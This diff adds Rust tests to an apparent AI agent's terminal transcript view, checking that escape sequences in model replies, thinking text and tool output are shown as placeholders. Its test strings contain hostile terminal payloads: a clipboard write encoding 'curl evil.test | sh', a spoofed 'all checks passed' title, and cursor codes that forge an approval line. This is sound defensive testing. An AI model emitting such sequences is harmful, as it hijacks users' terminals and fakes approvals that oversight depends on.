@@ -1031,3 +1031,62 @@ fn a_render_reports_how_far_its_rows_moved_up() {
     let mut back = Buffer::empty(wider);
     assert_eq!(transcript.render(wider, &mut back, now), 0, "moved down");
 }
+
+/// A reply that tries to write the clipboard (OSC 52), set the title, link text and
+/// move the cursor up to erase the line above, its sequences cut across deltas (the
+/// stream is fed seven characters at a time), and a tool's output and result doing the
+/// same: each sequence shows as one `␛`, its payload gone.
+#[test]
+fn snapshot_escape_sequences_from_the_model_show_as_placeholders() {
+    let start = Instant::now();
+    let mut transcript = Transcript::new(Theme::new(false));
+    transcript.on_event(&user("Summarise the README."), start);
+    let reply = "The README says to run the installer.\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07\n\
+                 \x1b]0;duet: all checks passed\x07See \x1b]8;;https://evil.test\x1b\\the docs\x1b]8;;\x1b\\.\n\
+                 \x1b[1A\x1b[2K? approve: yes\n";
+    let now = stream(&mut transcript, reply, start);
+    transcript.on_event(&ready("c1", "shell", r#"{"command":"cat README.md"}"#), now);
+    transcript.on_event(&run("c1"), now);
+    transcript.on_event(&output("c1", "# Project\x1b"), now);
+    transcript.on_event(&output("c1", "]52;c;eA==\x07 ok\n"), now);
+    transcript.on_event(
+        &Event::ToolRunEnd {
+            call_id: "c1".into(),
+            is_error: true,
+            summary: "exit 1".into(),
+            output: "failed\u{9b}1A\u{9b}2K: see \x1b]0;t\x07above".into(),
+        },
+        now,
+    );
+    let shown = screen(&mut transcript, 80, 16, now);
+    for payload in [
+        "52;c;",
+        "Y3Vyb",
+        "evil.test",
+        "all checks passed",
+        "[1A",
+        "[2K",
+    ] {
+        assert!(!shown.contains(payload), "{payload:?} shown:\n{shown}");
+    }
+    insta::assert_snapshot!(shown);
+}
+
+#[test]
+fn a_sequence_cut_between_thinking_deltas_is_caught_whole() {
+    let start = Instant::now();
+    let mut transcript = Transcript::new(Theme::new(false));
+    for text in ["plan \x1b", "]0;owned\x07 next\nstep \x1b[", "1A"] {
+        let delta = Event::ThinkingDelta { text: text.into() };
+        transcript.on_event(&delta, start);
+    }
+    let streaming = screen(&mut transcript, 60, 6, start);
+    assert!(streaming.contains("plan ␛ next"), "{streaming}");
+    assert!(!streaming.contains("owned"), "{streaming}");
+    // The cut-off sequence at the end shows once the thinking ends.
+    transcript.on_event(&text("Done."), start);
+    transcript.handle(Action::ToggleThinking);
+    let ended = screen(&mut transcript, 60, 6, start);
+    assert!(ended.contains("step ␛"), "{ended}");
+    assert!(!ended.contains("1A"), "{ended}");
+}
